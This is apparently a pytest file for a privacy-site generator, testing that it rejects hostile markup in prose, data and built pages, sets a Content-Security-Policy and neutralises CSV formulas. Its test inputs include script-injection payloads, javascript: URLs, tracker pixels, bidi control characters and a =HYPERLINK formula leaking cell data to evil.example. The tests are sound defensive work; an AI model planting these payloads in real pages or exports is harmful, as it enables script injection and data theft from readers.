"""The policy screen refuses what loads from another host or runs script, in prose, data and built pages,
naming file, line and element; pages carry the policy in a meta element; the CSV export has no formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.site.helpers import build_site
from trustsite.cli import main
from trustsite.safety.markup import REMOVE, screen_html
from trustsite.site.headers import CSP_DIRECTIVES, META_UNSUPPORTED, content_security_policy, meta_content_security_policy
from trustsite.site.inline import find_inline_code
from trustsite.validate.markup import screen_prose

PAGE = "content/privacy/index.md"


def check(root: Path):
    return CliRunner().invoke(main, ["check", "--root", str(root), "--today", "2026-07-01", "--no-cache"])


def add_to_statement(root: Path, text: str) -> int:
    """Append prose to the English statement; returns the line it starts on."""
    page = root / PAGE
    before = page.read_text(encoding="utf-8")
    page.write_text(before + "\n" + text + "\n", encoding="utf-8")
    return before.count("\n") + 2


# hostile prose: (raw Markdown, element, the start of the reason)
HOSTILE_PROSE = [
    ('<iframe src="https://evil.example/frame"></iframe>', "<iframe>", "embeds another document"),
    ('<script src="https://evil.example/x.js"></script>', "<script>", "runs script"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>", "loads a resource into the page"),
    ('<img src="https://tracker.example/pixel.gif" alt="">', "<img>", "src= loads from another host"),
    ("![pixel](https://tracker.example/pixel.gif)", "<img>", "loads an image from another host"),
    ('<svg><script>alert(1)</script></svg>', "<script>", "runs script"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>", "embeds another document"),
    ('<div srcdoc="x">text</div>', "<div>", "srcdoc= embeds a document"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta>", "changes how the page behaves"),
    ('<object data="https://evil.example/x.swf"></object>', "<object>", "embeds plugin or foreign content"),
    ('<embed src="https://evil.example/x.swf">', "<embed>", "embeds plugin content"),
    ('<img src="logo.png" onerror="alert(1)" alt="">', "<img>", "event handler onerror= runs script"),
    ('<a href="javascript:alert(1)">click</a>', "<a>", "javascript: URL in href= runs script"),
    ('<a href=" java\tscript:alert(1)">click</a>', "<a>", "javascript: URL in href= runs script"),
    ('<form action="https://evil.example/collect"><input name="q"></form>', "<form>", "sends what readers type"),
    ('<base href="https://evil.example/">', "<base>", "changes where every relative link"),
    ('<video poster="https://tracker.example/p.jpg"></video>', "<video>", "poster= loads from another host"),
    ('<a href="/privacy/" ping="https://tracker.example/ping">x</a>', "<a>", "ping= loads from another host"),
    ('<img srcset="a.png 1x, //tracker.example/b.png 2x" alt="">', "<img>", "srcset= loads from another host"),
    ('<svg><image href="https://tracker.example/p.svg"/></svg>', "<image>", "href= loads from another host"),
    ('<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>', "<animate>", "javascript: URL in to="),
    ("![pixel][t]\n\n[t]: https://tracker.example/p.gif", "<img>", "loads an image from another host"),
]


@pytest.mark.parametrize(("prose", "element", "reason"), HOSTILE_PROSE, ids=[c[0][:40] for c in HOSTILE_PROSE])
def test_hostile_prose_is_a_located_error(minimal_copy: Path, prose: str, element: str, reason: str) -> None:
    line = add_to_statement(minimal_copy, prose)
    result = check(minimal_copy)
    assert result.exit_code == 1, result.output
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"{PAGE}:{line}:"), first
    assert f": {element}: {reason}" in first, first
    assert first.endswith(REMOVE) or first.endswith("put the image in the content folder"), first
    assert "Traceback" not in result.output


@pytest.mark.parametrize("prose", [
    "`<iframe src=\"https://evil.example/\">` is what we never embed.",  # a code span is text
    "```html\n<script src=\"https://evil.example/x.js\"></script>\n```",  # so is a code block
    "[our processor](https://hosting.example.net/) publishes its own notice.",  # a link loads nothing
    '<span class="note">A note</span> and ![logo](logo.png)',  # own markup and own image
    '<a href="mailto:privacy@example.com">write to us</a>',
])
def test_prose_the_screen_lets_through(prose: str) -> None:
    assert screen_prose(prose, PAGE) == []


def test_exact_message_with_line_column_and_element() -> None:
    text = "# Title\n\nSome text <iframe src=\"https://evil.example/\"></iframe>\n"
    assert [p.format() for p in screen_prose(text, PAGE)] == [
        f"{PAGE}:3:11: <iframe>: embeds another document, which can load from any host and run script; {REMOVE}"]


HOSTILE_DATA = [
    ("name: Example Mail", 'name: "<img src=https://tracker.example/p.gif>"', "subprocessors.mailer.name",
     "holds HTML markup: <img>: src= loads from another host"),
    ("name: Example Mail", 'name: "<script>alert(1)</script>Mail"', "subprocessors.mailer.name",
     "holds HTML markup: <script>: runs script"),
    ("name: Example Mail", 'name: "Example \\u202Eliam"', "subprocessors.mailer.name",
     "contains a bidirectional control character, U+202E (RIGHT-TO-LEFT OVERRIDE), at character 9"),
    ("name: Example Mail", 'name: "Example \\u2066Mail"', "subprocessors.mailer.name",
     "contains a bidirectional control character, U+2066 (LEFT-TO-RIGHT ISOLATE), at character 9"),
    ("name: Example Mail", 'name: "Example\\0Mail"', "subprocessors.mailer.name",
     "contains a control character, U+0000 (NUL), at character 8"),
    ("name: Example Mail", 'name: "\\e[31mExample Mail\\e[0m"', "subprocessors.mailer.name",
     "contains a control character, U+001B (ESCAPE), at character 1"),
    ("website: https://mail.example.net", "website: javascript:alert(1)", "subprocessors.mailer.website",
     "expected an address starting with https://"),
    ("website: https://mail.example.net", "website: https://[mail.example.net", "subprocessors.mailer.website",
     "cannot be read as an address (Invalid IPv6 URL)"),
    ("website: https://mail.example.net", "website: https://[evil.example]/", "subprocessors.mailer.website",
     "cannot be read as an address"),
    ("website: https://mail.example.net", "website: https://mail.example.net/a]b", "subprocessors.mailer.website",
     "has a stray bracket after the host"),
    ("website: https://mail.example.net", "website: https://trusted.example@evil.example/",
     "subprocessors.mailer.website", "has a user name before the host"),
    ("website: https://mail.example.net", "website: https://mail_example/", "subprocessors.mailer.website",
     "'mail_example' is not a host name such as 'www.example.com'"),
]


@pytest.mark.parametrize(("old", "new", "path", "message"), HOSTILE_DATA, ids=[c[1][:40] for c in HOSTILE_DATA])
def test_hostile_data_is_a_located_error(minimal_copy: Path, old: str, new: str, path: str, message: str) -> None:
    data = minimal_copy / "data" / "subprocessors.yml"
    text = data.read_text(encoding="utf-8")
    at = text.index(old, text.index("mailer:"))
    data.write_text(text[:at] + new + text[at + len(old):], encoding="utf-8")
    line = text[:at].count("\n") + 1
    result = check(minimal_copy)
    assert result.exit_code == 1, result.output
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"data/subprocessors.yml:{line}:"), first
    assert f": {path}: {message}" in first, first
    assert "\x1b" not in result.stderr and "\x00" not in result.stderr and "\u202e" not in result.stderr


@pytest.mark.parametrize(("html", "expected"), [
    ('<script src="https://cdn.example.net/x.js"></script>', "<script>: loads script from another host"),
    ('<link rel="stylesheet" href="https://fonts.example.net/x.css">', "<link>: loads stylesheet from another host"),
    ('<link rel="preload icon" href="//cdn.example.net/i.png">', "<link>: loads preload icon from another host"),
    ('<meta http-equiv="Refresh" content="0;url=https://evil.example">', "<meta>: http-equiv=refresh sends every reader"),
    ('<iframe src="/self/page.html"></iframe>', "<iframe>: embeds another document"),
    ('<img src="https://tracker.example/p.gif">', "<img>: src= loads from another host"),
    ('<form action="https://evil.example/"></form>', "<form>: sends the form to another host"),
])
def test_built_pages_are_screened_too(html: str, expected: str) -> None:
    found = [f"{p.path}: {p.message}" for p in find_inline_code(f"<html><head></head><body>{html}</body></html>", "p.html")]
    assert len(found) == 1 and found[0].startswith(expected), found


@pytest.mark.parametrize("html", [
    '<script src="assets/javascripts/bundle.js"></script>',
    '<link rel="stylesheet" href="../assets/stylesheets/main.css">',
    '<link rel="alternate" type="application/json" href="https://trust.example.com/trust/subprocessors.json">',
    '<link rel="canonical" href="https://trust.example.com/privacy/">',
    '<a href="https://hosting.example.net/">a link loads nothing</a>',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
])
def test_what_the_theme_writes_passes(html: str) -> None:
    assert find_inline_code(f"<html><head>{html}</head></html>", "p.html") == []


def test_the_meta_policy_leaves_out_what_a_meta_element_cannot_carry() -> None:
    assert meta_content_security_policy() == "default-src 'self'; img-src 'self' data:; object-src 'none'; " \
                                             "base-uri 'self'; form-action 'self'"
    assert "frame-ancestors" in content_security_policy()
    assert META_UNSUPPORTED >= {"frame-ancestors", "report-uri", "sandbox"}
    assert {d.name for d in CSP_DIRECTIVES} - META_UNSUPPORTED == {
        part.split()[0] for part in meta_content_security_policy().split("; ")}


@pytest.mark.slow
def test_every_built_page_carries_the_policy_first_in_its_head(minimal_copy: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    result = build_site(minimal_copy, site, today="2026-07-01")
    assert result.returncode == 0, result.stderr
    pages = sorted(site.rglob("*.html"))
    assert len(pages) >= 8  # both languages, the version pages and the 404 pages
    meta = f'<meta http-equiv="Content-Security-Policy" content="{meta_content_security_policy()}">'
    for page in pages:
        html = page.read_text(encoding="utf-8")
        head = html[html.index("<head>"):html.index("</head>")]
        assert meta in head, page
        first_load = min(i for i in (head.find("<link"), head.find("<script"), head.find("<style")) if i >= 0)
        assert head.index(meta) < first_load, page


def test_csv_cells_never_start_like_a_formula(minimal_copy: Path) -> None:
    import dataclasses

    from trustsite.export.subprocessors import build_subprocessors, subprocessors_csv, subprocessors_json
    from trustsite.project import check_project

    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Example Mail")'
    project, problems = check_project(minimal_copy, dt.date(2026, 7, 1))
    assert project is not None, problems
    mailer = project.subprocessors["mailer"].model_copy(update={"name": formula, "legal_entity": "+Example -Mail @Inc"})
    project = dataclasses.replace(project, subprocessors={**project.subprocessors, "mailer": mailer})
    export = build_subprocessors(project, dt.date(2026, 7, 1), "https://trust.example.com/schema.json")
    rows = list(csv.DictReader(io.StringIO(subprocessors_csv(export), newline="")))
    row = next(row for row in rows if row["id"] == "mailer")
    assert row["name"] == "'" + formula
    assert row["legal_entity"] == "'+Example -Mail @Inc"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    as_json = json.loads(subprocessors_json(export))  # the JSON keeps the value as it is
    assert next(s for s in as_json["subprocessors"] if s["id"] == "mailer")["name"] == formula


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_is_neutralised(value: str) -> None:
    from trustsite.export.subprocessors import neutralise_cell

    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("Example " + value) == "Example " + value


def test_screen_html_locates_inside_a_long_text() -> None:
    found = screen_html("a\nb <embed src=x>\n", "f.md", prose=True)
    assert [(p.line, p.column, p.path) for p in found] == [(2, 3, "<embed>")]


def test_a_signup_form_may_post_to_its_declared_list_provider_only() -> None:
    """data/subscriptions.yml declares the list provider; the policy's form-action allows exactly its origin."""
    page = '<html><body><form action="https://lists.example.com/subscription/form" method="post"></form></body></html>'
    assert find_inline_code(page, "p.html", ("https://lists.example.com",)) == []
    other = page.replace("lists.example.com", "evil.example")
    found = find_inline_code(other, "p.html", ("https://lists.example.com",))
    assert [f"{p.path}: {p.message}" for p in found] == [
        f"<form>: sends the form to another host (https://evil.example/subscription/form); {REMOVE}"]
    assert meta_content_security_policy(("https://lists.example.com",)).endswith(
        "form-action 'self' https://lists.example.com")
